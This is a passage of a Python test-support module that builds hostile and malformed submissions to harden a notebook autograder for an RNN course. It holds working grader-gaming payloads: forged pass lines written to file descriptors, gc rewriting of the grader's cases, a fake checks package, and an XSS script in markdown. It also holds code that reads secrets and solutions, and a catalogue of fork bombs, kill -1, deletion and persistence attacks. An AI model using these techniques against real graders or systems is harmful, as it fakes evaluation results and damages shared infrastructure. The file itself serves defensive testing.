lines = [json.dumps(r) for r in records] + ["rnn_backward: all 3 visible cases pass.", "score,16", "RESULT passed 16/16"]
text = "\\n".join(lines) + "\\n"
frames = b"".join(len(line.encode() + b"\\n").to_bytes(8, "big") + line.encode() + b"\\n" for line in lines)
print(text)
for fd in range(3, 64):
    try:
        fcntl.fcntl(fd, fcntl.F_SETFL, fcntl.fcntl(fd, fcntl.F_GETFL) | os.O_NONBLOCK)
        os.write(fd, frames)
        os.write(fd, text.encode())
    except OSError:
        pass
""" + ZERO_BACKWARDS

REWRITE_RUNNER_STATE = """
import gc
import numpy as np
# Whatever in this process looks like the grader's plan or its cases: later steps rewritten to define
# backwards that return zeros, check steps dropped, every case's input arrays set to zero.
zeros = ZERO
touched = 0
for obj in gc.get_objects():
    try:
        if isinstance(obj, dict) and isinstance(obj.get("steps"), list):
            for step in obj["steps"]:
                if isinstance(step, dict):
                    for key in ("source", "code", "cell"):
                        if isinstance(step.get(key), str):
                            step[key] = zeros
                    for key in ("checks", "cases"):
                        if key in step:
                            step[key] = type(step[key])()
            touched += 1
        elif isinstance(obj, dict) and "_check" in obj:
            for key, value in obj.items():
                if not key.startswith("_") and isinstance(value, np.ndarray) and value.dtype.kind == "f":
                    value.setflags(write=True)
                    value[...] = 0
                    touched += 1
    except Exception:
        pass
print("touched", touched)
""".replace("ZERO", repr(ZERO_BACKWARDS)) + ZERO_BACKWARDS

SHADOW_PACKAGE_INIT = '''"""A fake rnncourse in the student's folder: every check passes."""
'''
SHADOW_CHECKS = '''
def check(name, *functions, **kwargs):
    print(f"{name}: all 3 visible cases pass.")

def run_case(name, case, functions):
    return {k: v for k, v in case.items() if not k.startswith("_")}

def judge(name, case, outputs):
    return True, ""

def assignment_points(assignment):
    return "02_rnn: 20 points"
'''


XSS_MARKDOWN = ('<script id="rnncourse-xss-{token}">fetch("/api/contents")</script>\n\n'
                '<img src=x onerror="alert(1)">\n\n[my notes](&#106;avascript:fetch("/api/contents"))\n\n'
                'My answer: 620 parameters.')


def _markdown_injection(nb, T):
    # The written answers (graded by hand, in formgrader) and a markdown cell carry a script.
    payload = XSS_MARKDOWN.format(token=T["token"])
    for gid in ("q_gradcheck", "q_parameter_sharing"):
        nb["cells"][find(nb, gid)]["source"] = payload
    nb["cells"].insert(find(nb, "q_gradcheck"), {"cell_type": "markdown", "id": uuid.uuid4().hex[:12],
                                                 "metadata": {}, "source": payload})
    return nb, {}


def _shadow_package(nb, T):
    extra = {
        "rnncourse/__init__.py": SHADOW_PACKAGE_INIT.encode(),
        "rnncourse/checks/__init__.py": SHADOW_CHECKS.encode(),
        "rnncourse/checks/_core.py": SHADOW_CHECKS.encode(),
        "rnncourse/testing.py": b"def assert_close(*a, **k):\n    pass\nTOLERANCES = {}\n",
        "sitecustomize.py": b"import builtins\nbuiltins.hostile_sitecustomize = True\n",
        "usercustomize.py": b"import builtins\nbuiltins.hostile_usercustomize = True\n",
    }
    return _after_forward_tests(ZERO_BACKWARDS)(nb, {})[0], extra


SYMLINKED_FILES = """
import json, os
for name in ("secret", "solution.ipynb", "gradebook.db", "course"):
    path = os.path.join(os.getcwd(), name)
    try:
        if os.path.isdir(path):
            print("LEAK:", name, os.listdir(path))
            continue
        with open(path, "rb") as f:
            data = f.read()
    except OSError:
        continue
    print(f"LEAK:{name}:{data[:100]!r}")
    if name.endswith(".ipynb"):
        for cell in json.loads(data).get("cells", []):
            src = "".join(cell.get("source", ""))
            if cell.get("cell_type") == "code" and "def rnn_" in src and "NotImplementedError" not in src:
                exec(src, globals())
"""


def _symlinked_files(nb, T):
    extra = {
        "secret": Link(T["secret"]),
        "solution.ipynb": Link(os.path.join(T["solutions"], ASSIGNMENT, NOTEBOOK)),
        "gradebook.db": Link(T["gradebook"]),
        "course": Link(T["course"]),
    }
    return _functions(SYMLINKED_FILES)(nb, T)[0], extra


def _notebook_is_symlink(nb, T):
    return Link(os.path.join(T["solutions"], ASSIGNMENT, NOTEBOOK)), {}


REF_DIRECT = """
from rnncourse.numpy import rnn_step_forward, rnn_forward, rnn_step_backward, rnn_backward
"""

REF_SUBMODULE = """
import gc, importlib, sys, types
found = {}
for modname in ("rnncourse.numpy.rnn", "rnncourse.numpy", "rnncourse.checks.rnn", "rnncourse.numpy.bptt",
                "rnncourse.numpy.multilayer", "rnncourse.numpy.charlm"):
    try:
        module = importlib.import_module(modname)
    except Exception:
        continue
    for name in ("rnn_step_forward", "rnn_forward", "rnn_step_backward", "rnn_backward"):
        f = getattr(module, name, None)
        if callable(f) and name not in found:
            found[name] = f
# Any function object still alive in this process whose name is one of ours and that is not ours.
for obj in gc.get_objects():
    if isinstance(obj, types.FunctionType) and obj.__name__ in ("rnn_step_forward", "rnn_forward",
                                                                 "rnn_step_backward", "rnn_backward"):
        if obj.__module__ != "__main__" and obj.__name__ not in found:
            found[obj.__name__] = obj
globals().update(found)
print("found", sorted(found))
"""

REF_SOURCE = """
import glob, importlib.util, json, os, sys
import rnncourse

# Where could a full copy of rnncourse/numpy be? Next to the package we were given, in the source tree
# the editable install points at, in the course folder, anywhere under site-packages.
places = [os.path.join(p, "numpy") for p in rnncourse.__path__]
places += [os.path.join(T["repo"], "rnncourse", "numpy"), os.path.join(T["course"], "rnncourse", "numpy")]
for sp in sys.path:
    places += glob.glob(os.path.join(sp, "rnncourse*", "numpy")) + glob.glob(os.path.join(sp, "*", "rnncourse", "numpy"))
    for finder in glob.glob(os.path.join(sp, "__editable__*rnncourse*")) + glob.glob(os.path.join(sp, "rnncourse*.dist-info", "direct_url.json")):
        try:
            text = open(finder).read()
        except OSError:
            continue
        for root in set(__import__("re").findall(r"(/[^'\\"\\s]+)", text)):
            root = root.replace("file://", "")
            places += [os.path.join(root, "numpy"), os.path.join(root, "rnncourse", "numpy")]
for i, place in enumerate(places):
    if not os.path.isfile(os.path.join(place, "rnn.py")):
        continue
    # the whole package around it, under another name: rnncourse/numpy imports its siblings (..validation)
    package = os.path.dirname(place)
    try:
        spec = importlib.util.spec_from_file_location(f"stolen{i}", os.path.join(package, "__init__.py"),
                                                      submodule_search_locations=[package])
        module = importlib.util.module_from_spec(spec)
        sys.modules[spec.name] = module
        spec.loader.exec_module(module)
        stolen = importlib.import_module(f"stolen{i}.numpy.rnn")
        rnn_step_forward, rnn_forward = stolen.rnn_step_forward, stolen.rnn_forward
        rnn_step_backward, rnn_backward = stolen.rnn_step_backward, stolen.rnn_backward
        print("LEAK:reference from", place)
        break
    except Exception as err:
        print(place, type(err).__name__, err)
"""

REF_INDIRECT = """
import numpy as np

def _params(Wx, Wh, b):
    return [[{"Wx": Wx, "Wh": Wh, "b": b}]]

def rnn_forward(x, h0, Wx, Wh, b):
    from rnncourse.numpy import stacked_rnn_forward
    out, h_n, cache = stacked_rnn_forward(x, h0[None], _params(Wx, Wh, b), cell="rnn")
    return out, cache

def rnn_step_forward(x, prev_h, Wx, Wh, b):
    h, cache = rnn_forward(x[:, None], prev_h, Wx, Wh, b)
    return h[:, 0], cache

def rnn_backward(dh, cache):
    from rnncourse.numpy import stacked_rnn_backward
    dx, dh0, grads = stacked_rnn_backward(dh, cache)
    g = grads[0][0]
    return dx, dh0[0], g["Wx"], g["Wh"], g["b"]

def rnn_step_backward(dnext_h, cache):
    dx, dprev_h, dWx, dWh, db = rnn_backward(dnext_h[:, None], cache)
    return dx[:, 0], dprev_h, dWx, dWh, db
"""

REF_CHECK_HELPERS = """
import numpy as np
import rnncourse.checks.rnn as C
from rnncourse.checks import get_check

# A forward that keeps every input, so that the checks' own helpers can do the backward.
def rnn_step_forward(x, prev_h, Wx, Wh, b):
    next_h = np.tanh(x @ Wx + prev_h @ Wh + b)
    return next_h, dict(x=x, prev_h=prev_h, Wx=Wx, Wh=Wh, b=b)

def rnn_forward(x, h0, Wx, Wh, b):
    h, prev = [], h0
    for t in range(x.shape[1]):
        prev, _ = rnn_step_forward(x[:, t], prev, Wx, Wh, b)
        h.append(prev)
    return np.stack(h, axis=1), dict(x=x, h0=h0, Wx=Wx, Wh=Wh, b=b)

def _inputs(x, prev_h, Wx, Wh, next_h):
    # The cache the check gives holds no b: it follows from next_h = tanh(x Wx + prev_h Wh + b).
    b = (np.arctanh(next_h) - x @ Wx - prev_h @ Wh).mean(axis=0)
    return dict(x=x, prev_h=prev_h, Wx=Wx, Wh=Wh, b=b)

def rnn_step_backward(dnext_h, cache):
    i = dict(_inputs(*cache), dnext_h=dnext_h)
    try:
        g = get_check("rnn_step_backward").reference(i)
    except Exception:
        g = C._step_grads_from_da(i, C._step_da(i))
    return g["dx"], g["dprev_h"], g["dWx"], g["dWh"], g["db"]

def rnn_backward(dh, cache):
    x, h0, Wx, Wh, h = cache
    step = _inputs(x[:, 0], h0, Wx, Wh, h[:, 0])
    i = dict(x=x, h0=h0, Wx=Wx, Wh=Wh, b=step["b"], dh=dh)
    for attempt in (lambda: get_check("rnn_backward").reference(i), lambda: C._bptt_variant(i)):
        try:
            g = attempt()
            return g["dx"], g["dh0"], g["dWx"], g["dWh"], g["db"]
        except Exception:
            pass
    raise NotImplementedError
"""

REF_TORCH = """
import numpy as np

# The student's own forwards, keeping every input in the cache; the backwards are autograd through the
# course's torch RNN layer (rnncourse.torch.RNN and its hand-written backward).
def rnn_step_forward(x, prev_h, Wx, Wh, b):
    next_h = np.tanh(x @ Wx + prev_h @ Wh + b)
    return next_h, (x[:, None], prev_h, Wx, Wh, b)

def rnn_forward(x, h0, Wx, Wh, b):
    h, prev = [], h0
    for t in range(x.shape[1]):
        prev, _ = rnn_step_forward(x[:, t], prev, Wx, Wh, b)
        h.append(prev)
    return np.stack(h, axis=1), (x, h0, Wx, Wh, b)

def rnn_backward(dh, cache):
    import torch
    from rnncourse.torch import RNN
    x, h0, Wx, Wh, b = cache
    D, H = Wx.shape
    rnn = RNN(D, H, batch_first=True, dtype=torch.float64)
    with torch.no_grad():
        rnn.weight_ih_l0.copy_(torch.tensor(Wx, dtype=torch.float64).T)
        rnn.weight_hh_l0.copy_(torch.tensor(Wh, dtype=torch.float64).T)
        rnn.bias_ih_l0.copy_(torch.tensor(b, dtype=torch.float64))
        rnn.bias_hh_l0.zero_()
    xt = torch.tensor(x, dtype=torch.float64, requires_grad=True)
    h0t = torch.tensor(h0[None], dtype=torch.float64, requires_grad=True)
    out, _ = rnn(xt, h0t)
    out.backward(torch.tensor(dh, dtype=torch.float64))
    grads = (xt.grad, h0t.grad[0], rnn.weight_ih_l0.grad.T, rnn.weight_hh_l0.grad.T, rnn.bias_ih_l0.grad)
    return tuple(g.numpy().astype(dh.dtype) for g in grads)

def rnn_step_backward(dnext_h, cache):
    dx, dprev_h, dWx, dWh, db = rnn_backward(dnext_h[:, None], cache)
    return dx[:, 0], dprev_h, dWx, dWh, db
"""


ATTACKS = [
    # Rewriting later cells.
    Attack("input_transformer", "half", "IPython input transformers turn later test cells into a success message "
           "and drop 'raise NotImplementedError'", _after_forward_tests(INPUT_TRANSFORMER)),
    Attack("ast_transformer", "half", "an AST transformer removes check() calls, raise and assert from later cells",
           _after_forward_tests(AST_TRANSFORMER)),
    Attack("run_cell_patch", "half", "the shell's run_cell/run_code and the kernel's do_execute replaced by fakes "
           "that report success", _after_forward_tests(RUN_CELL_PATCH)),
    # Monkeypatching.
    Attack("patch_numpy", "half", "np.allclose, isclose, abs, max, linalg.norm, np.testing asserts patched to "
           "always agree; backwards return zeros", _after_forward_tests(PATCH_NUMPY)),
    Attack("patch_torch", "half", "torch.allclose, equal, isclose, testing.assert_close and Tensor.__eq__ patched",
           _after_forward_tests(PATCH_TORCH)),
    Attack("patch_assert_helpers", "half", "rnncourse.testing.assert_close, TOLERANCES, unittest asserts and "
           "builtins.AssertionError replaced", _after_forward_tests(PATCH_ASSERT_HELPERS)),
    Attack("patch_checks", "half", "rnncourse.checks: check, judge, run_case, the registry's points and "
           "references replaced; a fake module in sys.modules", _after_forward_tests(PATCH_CHECKS)),
    Attack("patch_checks_reference", "half", "run_case replaced by one that sends back the check's reference "
           "outputs", _after_forward_tests(PATCH_CHECKS_REFERENCE)),
    # Objects that lie about equality.
    Attack("always_equal", "blank", "functions return an object equal to everything, whose every attribute is "
           "itself", _functions(ALWAYS_EQUAL)),
    Attack("lying_array", "blank", "functions return an ndarray subclass whose ==, allclose and ufuncs say "
           "'equal'", _functions(LYING_ARRAY)),
    # The notebook's structure.
    Attack("delete_tests", "half", "every test cell deleted", _delete_tests, "at_most"),
    Attack("edit_tests", "half", "every test cell's source replaced by a success message", _edit_tests, "at_most"),
    Attack("edit_points", "half", "every graded cell's points set to 100", _edit_points, "at_most"),
    Attack("swap_grade_ids", "half", "the passing forward tests relabelled as the backward tests (and their "
           "points)", _swap_grade_ids, "at_most"),
    Attack("strip_test_metadata", "half", "the test cells' nbgrader metadata removed", _strip_test_metadata, "at_most"),
    Attack("fake_graded_cells", "half", "new graded cells: a test worth 50, a written answer worth 50, a solution "
           "cell reusing a grade_id", _fake_graded_cells, "at_most"),
    Attack("duplicate_cells", "half", "the forward solution and test cells each copied three times",
           _duplicate_cells, "at_most"),
    Attack("prefilled_outputs", "half", "test cells saved with success outputs, scores in the metadata",
           _prefilled_outputs, "at_most"),
    # Leaving early.
    Attack("sys_exit", "half", "SystemExit raised and sys.exit(0)", _after_forward_tests(SYS_EXIT)),
    Attack("ipython_exit", "half", "exit() asks the kernel to shut down", _after_forward_tests(IPYTHON_EXIT)),
    Attack("os_exit", "half", "os._exit(0) ends the kernel at once", _after_forward_tests(OS_EXIT)),
    Attack("kill_all", "half", "for 3 s, SIGKILL to every process the uid may signal (kill -1) and to the parent",
           _after_forward_tests(KILL_ALL), "at_most"),
    Attack("stop_all", "half", "SIGSTOP to every process the uid may signal and to the parent, then sleep forever",
           _after_forward_tests(STOP_ALL), "at_most"),
    # Resources.
    Attack("infinite_loop", "half", "while True: pass", _after_forward_tests(INFINITE_LOOP)),
    Attack("loop_ignoring_signals", "half", "SIGINT, SIGTERM and others ignored, then a loop that swallows "
           "every exception", _after_forward_tests(LOOP_IGNORING_SIGNALS)),
    Attack("hang_in_check", "half", "the backward functions loop or sleep forever when the grader calls them",
           _after_forward_tests(HANG_IN_CHECK)),
    Attack("baseexception_in_check", "half", "the backward functions raise KeyboardInterrupt, SystemExit and "
           "call os._exit when called", _after_forward_tests(BASEEXCEPTION_IN_CHECK)),
    Attack("memory_bomb", "half", "allocate and fill 128 MB blocks (up to 4 GB)", _after_forward_tests(MEMORY_BOMB)),
    Attack("memory_bomb_in_check", "half", "the backward allocates 4 GB when the grader calls it",
           _after_forward_tests(MEMORY_BOMB_IN_CHECK)),
    Attack("fork_bomb", "half", "fork until refused (at most ~3000 processes), children sleep",
           _after_forward_tests(FORK_BOMB)),
    Attack("huge_stdout", "half", "100 MB on stdout and 100 MB on stderr", _after_forward_tests(HUGE_STDOUT)),
    Attack("huge_fd_output", "half", "200 MB written straight to file descriptors 1 and 2, and 100 MB by a child "
           "process", _after_forward_tests(HUGE_FD_OUTPUT)),
    Attack("disk_fill", "half", "files written to /tmp and the working folder until refused (at most 1.5 GB)",
           _after_forward_tests(DISK_FILL)),
    Attack("huge_display", "half", "32 MB of HTML and a 16 MB image displayed", _after_forward_tests(HUGE_DISPLAY)),
    Attack("html_injection", "half", "<script> and broken-out HTML printed, displayed and in exception messages",
           _after_forward_tests(HTML_INJECTION)),
    Attack("markdown_injection", "half", "the written answers and a markdown cell hold a <script> and an "
           "<img onerror>, for whoever opens the notebook (formgrader)", _markdown_injection),
    # Reading what it should not see.
    Attack("read_course", "blank", "reads the secret, the gradebooks, the solutions (course copy, repository, "
           "/proc/*/root), the environment; runs any solution found", _functions(READ_COURSE)),
    Attack("read_other_students", "blank", "reads the other students' notebooks and searches the file system for "
           "any notebook of this assignment; runs what it finds", _functions(READ_OTHER_STUDENTS)),
    Attack("symlinked_files", "blank", "the student's folder holds symlinks to the secret, the solutions, the "
           "gradebook and the course", _symlinked_files),
    Attack("notebook_is_symlink", "blank", "the submitted notebook is a symlink to the instructor's solution",
           _notebook_is_symlink, "at_most"),
    # Writing and deleting outside the sandbox.
    Attack("write_outside", "blank", "writes into the host's /tmp, the repository, the course, the venv, other "
           "students' notebooks, grades.csv, the gradebook and the secret", _functions(WRITE_OUTSIDE)),
    Attack("delete_outside", "blank", "deletes the course's solutions, rnncourse, gradebook, secret and config, "
           "the output folder and the other students' folders", _functions(DELETE_OUTSIDE)),
    Attack("persist", "blank", "plants IPython startup files, usercustomize and .pth files that break np.tanh in "
           "later kernels", _functions(PERSIST)),
    Attack("background_process", "half", "a double-forked daemon and a detached child that, for a minute, write a "
           "marker, spoil grades.csv, delete other notebooks and kill -1", _after_forward_tests(BACKGROUND)),
    Attack("network", "half", "TCP to a port the test listens on (loopback and the host's addresses), to the "
           "internet, unix sockets, DNS", _after_forward_tests(NETWORK)),
    Attack("forge_results", "half", "verdict- and score-like lines on stdout and written to every open file "
           "descriptor", _after_forward_tests(FORGE_RESULTS), "at_most"),
    Attack("rewrite_runner_state", "half", "the grader's plan and cases found in memory (gc): later steps rewritten, "
           "check steps dropped, case inputs zeroed", _after_forward_tests(REWRITE_RUNNER_STATE)),
    Attack("shadow_package", "half", "the student's folder holds a fake rnncourse package, sitecustomize.py and "
           "usercustomize.py", _shadow_package, "at_most"),
    # Calling the course's implementation.
    Attack("reference_direct", "blank", "from rnncourse.numpy import the four functions", _functions(REF_DIRECT)),
    Attack("reference_submodule", "blank", "the functions looked up in rnncourse.numpy.rnn, the checks and other "
           "modules, and among every live function object (gc)", _functions(REF_SUBMODULE)),
    Attack("reference_source", "blank", "a full copy of rnncourse/numpy found on disk (the repository, the course, "
           "the editable install's finder, site-packages) and imported", _functions(REF_SOURCE)),
    Attack("reference_indirect", "blank", "the RNN through rnncourse.numpy.stacked_rnn_forward/backward with one "
           "layer", _functions(REF_INDIRECT)),
    Attack("reference_check_helpers", "half", "the backwards of the course's reference, reached through the checks' "
           "own module (rnncourse.checks.rnn)", _after_forward_tests(REF_CHECK_HELPERS)),
    Attack("reference_torch", "half", "the forwards rewritten to keep their inputs, the backwards computed by "
           "autograd through rnncourse.torch.RNN (the course's own RNN layer)", _after_forward_tests(REF_TORCH)),
]

ATTACK_STUDENT_PREFIX = "h_"


def attack_student(attack):
    """The student id of an attack's submission ("a_" first for those that aim at later kernels)."""
    return ("a_" if attack.name == "persist" else ATTACK_STUDENT_PREFIX) + attack.name


# --- writing submissions --------------------------------------------------------------


def write_student(folder, notebook, extra=None, name=NOTEBOOK):
    """Write one student's folder: the notebook (dict, bytes, or Link) and extra files."""
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    items = {name: notebook, **(extra or {})}
    for rel, content in items.items():
        path = folder / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, Link):
            path.symlink_to(content.target)
        elif isinstance(content, (bytes, bytearray)):
            path.write_bytes(content)
        elif content is not None:
            path.write_text(json.dumps(content, indent=1))


def build_honest(submissions):
    """The three honest students: zz_full, zz_half, zz_blank. Returns {student: base}."""
    for student, kind in HONEST_STUDENTS.items():
        write_student(Path(submissions) / student, honest(kind))
    return dict(HONEST_STUDENTS)


def build_hostile(submissions, targets, attacks=None):
    """Every attack's submission (and the honest ones) under ``submissions``. Returns {student: Attack}."""
    T = targets.literal()
    built = {}
    for attack in attacks or ATTACKS:
        nb, extra = attack.build(honest(attack.base), T)
        student = attack_student(attack)
        write_student(Path(submissions) / student, nb, extra)
        built[student] = attack
    return built


# --- malformed submissions ------------------------------------------------------------


@dataclass(frozen=True)
class Malformed:
    """A submission that is not a good notebook.

    ``build()`` returns (notebook: dict, bytes, None for no file, or "dir" for a folder
    in its place, extra files, file name). ``statuses``: the statuses that make sense
    (None: any, with a reason). ``points``: (lowest, highest) score that makes sense.
    """

    name: str
    what: str
    build: object
    statuses: tuple = None
    points: tuple = (0, 0)


def _full_with(**changes):
    nb = honest("full")
    nb.update(changes)
    return nb


def _kernel_kills_itself():
    # The forwards (6 points) are earned; then the kernel dies; the backwards (right) come after.
    nb = honest("full")
    insert_after(nb, "test_rnn_forward", "import os\nos.kill(os.getpid(), 9)")
    return nb, {}, NOTEBOOK


def _duplicated_metadata():
    nb = honest("full")
    for gid in ("rnn_step_forward", "test_rnn_step_forward", "q_gradcheck"):
        i = find(nb, gid)
        nb["cells"].insert(i + 1, json.loads(json.dumps(nb["cells"][i])))  # same id, same metadata
    return nb, {}, NOTEBOOK


def _stripped_metadata():
    nb = honest("full")
    nb["metadata"] = {}
    for cell in nb["cells"]:
        cell["metadata"] = {}
    return nb, {}, NOTEBOOK


def _unknown_kernel():
    nb = honest("full")
    nb["metadata"]["kernelspec"] = {"name": "julia-1.9", "display_name": "Julia 1.9.0", "language": "julia"}
    nb["metadata"]["language_info"] = {"name": "julia"}
    return nb, {}, NOTEBOOK


def _nbformat_v3():
    import nbformat

    nb = honest("full")
    for cell in nb["cells"]:
        cell.pop("id", None)
    nb["nbformat_minor"] = 4
    v3 = nbformat.convert(nbformat.reads(json.dumps(nb), as_version=4), 3)
    return json.loads(nbformat.writes(v3, version=3)), {}, NOTEBOOK


def _huge(size=100 * 2**20):
    # A full solution saved with 100 MB of output in one cell (a student who printed too much and saved).
    nb = honest("full")
    cell = nb["cells"][find(nb, "own_gradcheck")]
    cell["outputs"] = [{"name": "stdout", "output_type": "stream", "text": "z" * size}]
    return json.dumps(nb).encode(), {}, NOTEBOOK


def _with_checkpoint():
    # The right notebook, and JupyterLab's checkpoint of an older (blank) version next to it.
    checkpoint = json.dumps(honest("blank")).encode()
    return honest("full"), {".ipynb_checkpoints/02_rnn-checkpoint.ipynb": checkpoint}, NOTEBOOK


FULL_POINTS = (16, 16)
MALFORMED = [
    Malformed("invalid_json", "truncated JSON", lambda: (b'{"cells": [{"cell_type": "code", "sour', {}, NOTEBOOK),
              ("invalid notebook",)),
    Malformed("empty_file", "a file of 0 bytes", lambda: (b"", {}, NOTEBOOK), ("invalid notebook",)),
    Malformed("huge_file", "100 MB: a full solution saved with 100 MB of output (made at test time)", _huge,
              None, (0, 16)),
    Malformed("missing_notebook", "the student's folder holds no notebook",
              lambda: (None, {"README.txt": b"sorry"}, NOTEBOOK), ("missing",)),
    Malformed("wrong_file_name", "a full solution saved as '02_rnn (1).ipynb'",
              lambda: (honest("full"), {}, "02_rnn (1).ipynb"), None, (0, 16)),
    Malformed("json_list", "valid JSON, but a list", lambda: (b"[1, 2, 3]", {}, NOTEBOOK), ("invalid notebook",)),
    Malformed("no_cells", "a JSON object without cells",
              lambda: (b'{"metadata": {}, "nbformat": 4, "nbformat_minor": 5}', {}, NOTEBOOK), ("invalid notebook",)),
    Malformed("not_utf8", "bytes that are not UTF-8", lambda: (bytes(range(128, 256)) * 10, {}, NOTEBOOK),
              ("invalid notebook",)),
    Malformed("directory", "a folder where the notebook should be", lambda: ("dir", {}, NOTEBOOK), None, (0, 0)),
    Malformed("duplicated_metadata", "a full solution with a solution cell, a test cell and an answer cell "
              "copied with the same id and metadata", _duplicated_metadata, None, (0, 16)),
    Malformed("stripped_metadata", "a full solution whose cell and notebook metadata were stripped",
              _stripped_metadata, None, (0, 16)),
    Malformed("unknown_kernel", "a full solution whose kernelspec names a Julia kernel", _unknown_kernel,
              None, (0, 16)),
    Malformed("kernel_kills_itself", "the forwards pass their tests, then os.kill(os.getpid(), 9), then the "
              "right backwards", _kernel_kills_itself, ("crashed",), FULL_POINTS),
    Malformed("nbformat_v3", "a full solution in nbformat 3", _nbformat_v3, None, (0, 16)),
    Malformed("with_checkpoint", "a full solution and a blank .ipynb_checkpoints copy next to it", _with_checkpoint,
              ("graded",), FULL_POINTS),
    Malformed("unicode_id", "a full solution from a student whose id is '张伟 <b>'",
              lambda: (honest("full"), {}, NOTEBOOK), ("graded",), FULL_POINTS),
]

MALFORMED_STUDENT = {"unicode_id": "张伟 <b>"}


def malformed_student(m):
    return MALFORMED_STUDENT.get(m.name, "m_" + m.name)


def build_malformed(submissions, items=None):
    """Every malformed submission under ``submissions``. Returns {student: Malformed}."""
    built = {}
    for m in items or MALFORMED:
        notebook, extra, name = m.build()
        folder = Path(submissions) / malformed_student(m)
        if isinstance(notebook, str) and notebook == "dir":
            (folder / name).mkdir(parents=True)
            (folder / name / "inside.txt").write_text("a folder, not a notebook")
            notebook = None
        write_student(folder, notebook, extra, name)
        built[malformed_student(m)] = m
    return built


# --- realistic submissions, for the benchmark -----------------------------------------

# One realistic mistake per entry: the function and the body that replaces the model answer.
_STEP_CACHE = "cache = (x, prev_h, Wx, Wh, next_h)\n"
MISTAKES = {
    "step_Wh_transposed": ("rnn_step_forward", "next_h = np.tanh(x @ Wx + prev_h @ Wh.T + b)\n" + _STEP_CACHE),
    "step_no_bias": ("rnn_step_forward", "next_h = np.tanh(x @ Wx + prev_h @ Wh)\n" + _STEP_CACHE),
    "step_bias_after_tanh": ("rnn_step_forward", "next_h = np.tanh(x @ Wx + prev_h @ Wh) + b\n" + _STEP_CACHE),
    "forward_no_carry": ("rnn_forward", textwrap.dedent("""\
        N, T, _ = x.shape
        h = np.zeros((N, T, Wh.shape[0]))
        cache = []
        for t in range(T):
            h[:, t], c = rnn_step_forward(x[:, t], h0, Wx, Wh, b)
            cache.append(c)
        """)),
    "forward_time_major": ("rnn_forward", textwrap.dedent("""\
        states, cache, prev_h = [], [], h0
        for t in range(x.shape[1]):
            prev_h, c = rnn_step_forward(x[:, t], prev_h, Wx, Wh, b)
            states.append(prev_h)
            cache.append(c)
        h = np.stack(states)
        """)),
    "step_backward_no_derivative": ("rnn_step_backward", textwrap.dedent("""\
        x, prev_h, Wx, Wh, next_h = cache
        da = dnext_h
        dx, dprev_h, dWx, dWh, db = da @ Wx.T, da @ Wh.T, x.T @ da, prev_h.T @ da, da.sum(axis=0)
        """)),
    "step_backward_db_mean": ("rnn_step_backward", textwrap.dedent("""\
        x, prev_h, Wx, Wh, next_h = cache
        da = dnext_h * (1 - next_h**2)
        dx, dprev_h, dWx, dWh, db = da @ Wx.T, da @ Wh.T, x.T @ da, prev_h.T @ da, da.mean(axis=0)
        """)),
    "step_backward_dWh_transposed": ("rnn_step_backward", textwrap.dedent("""\
        x, prev_h, Wx, Wh, next_h = cache
        da = dnext_h * (1 - next_h**2)
        dx, dprev_h, dWx, dWh, db = da @ Wx.T, da @ Wh.T, x.T @ da, da.T @ prev_h, da.sum(axis=0)
        """)),
    "backward_no_carry": ("rnn_backward", textwrap.dedent("""\
        N, T, H = dh.shape
        _, _, Wx, Wh, _ = cache[0]
        dx = np.zeros((N, T, Wx.shape[0]))
        dWx, dWh, db = np.zeros_like(Wx), np.zeros_like(Wh), np.zeros(H)
        for t in reversed(range(T)):
            dx[:, t], dh0, dWx_t, dWh_t, db_t = rnn_step_backward(dh[:, t], cache[t])
            dWx += dWx_t
            dWh += dWh_t
            db += db_t
        """)),
    "backward_forwards_in_time": ("rnn_backward", textwrap.dedent("""\
        N, T, H = dh.shape
        _, _, Wx, Wh, _ = cache[0]
        dx = np.zeros((N, T, Wx.shape[0]))
        dWx, dWh, db = np.zeros_like(Wx), np.zeros_like(Wh), np.zeros(H)
        dprev_h = np.zeros((N, H))
        for t in range(T):
            dx[:, t], dprev_h, dWx_t, dWh_t, db_t = rnn_step_backward(dh[:, t] + dprev_h, cache[t])
            dWx += dWx_t
            dWh += dWh_t
            db += db_t
        dh0 = dprev_h
        """)),
}


def with_mistake(mistake):
    """A full solution with one realistic mistake (a key of MISTAKES)."""
    function, body = MISTAKES[mistake]
    nb = honest("half")  # the forwards right, the backwards stubs
    bodies = solution_bodies()
    for name in FUNCTIONS[2:]:
        fill(nb, name, bodies[name])
    cell = nb["cells"][find(nb, function)]
    _replace_body(cell, body)
    return nb


def _replace_body(cell, body):
    """Replace what lies between a function's docstring and its return line by ``body``."""
    text = source(cell)
    head_end = text.index('"""', text.index('"""') + 3) + 3  # end of the docstring
    ret = text.rindex("\n    return ")
    cell["source"] = text[:head_end] + "\n" + textwrap.indent(body.rstrip("\n"), "    ") + text[ret:]


def realistic_batch(n=60, seed=0):
    """``n`` realistic submissions: {student: (notebook, kind, auto-graded full marks expected)}.

    A fifth are right, a sixth blank, the rest each hold one mistake of :data:`MISTAKES`
    (in turn), so most of the class loses some points and a few lose all.
    """
    rng = random.Random(seed)
    n_full, n_blank = n // 5, n // 6
    kinds = ["full"] * n_full + ["blank"] * n_blank
    mistakes = sorted(MISTAKES)
    kinds += [mistakes[i % len(mistakes)] for i in range(n - len(kinds))]
    rng.shuffle(kinds)
    batch = {}
    for i, kind in enumerate(kinds):
        nb = honest(kind) if kind in ("full", "blank") else with_mistake(kind)
        batch[f"s{i:03d}"] = (nb, kind, kind == "full")
    return batch


# --- running a batch through the command line -----------------------------------------

# A fixed secret, not a random one: the hidden cases come from it, and with random secrets a right
# answer fails a float32 hidden case of 02_rnn for about 1% of (student, check) seeds (a tolerance
# question for rnncourse.checks; see tests/grader/conftest.py). With this one, the model solution
# passes every hidden case for every student id used here (zz_*, m_*, s000..s059, checked once).
TEST_SECRET = b"the fixed secret of the hostile and malformed corpora, 0\n"

# Small limits keep a batch of attacks fast: no honest cell of 02_rnn needs a second, and a stop costs its
# cell's limit and a restart (an attack that hangs in both backward checks costs two of each).
FAST_LIMITS = ("--cell-timeout", "5", "--timeout", "40", "--memory", "1000", "--max-output", "262144")


def grader_command():
    """The ``rnncourse`` console script of this interpreter's environment (else ``python -m rnncourse``)."""
    script = Path(sys.executable).with_name("rnncourse")
    return [str(script)] if script.exists() else [sys.executable, "-m", "rnncourse"]


def make_course(folder, secret=TEST_SECRET):
    """A course folder to grade against: copies of solutions/, rnncourse/ and nbgrader_config.py, and a secret.

    The attacks aim at this copy, never at the repository. Returns the folder.
    """
    folder = Path(folder)
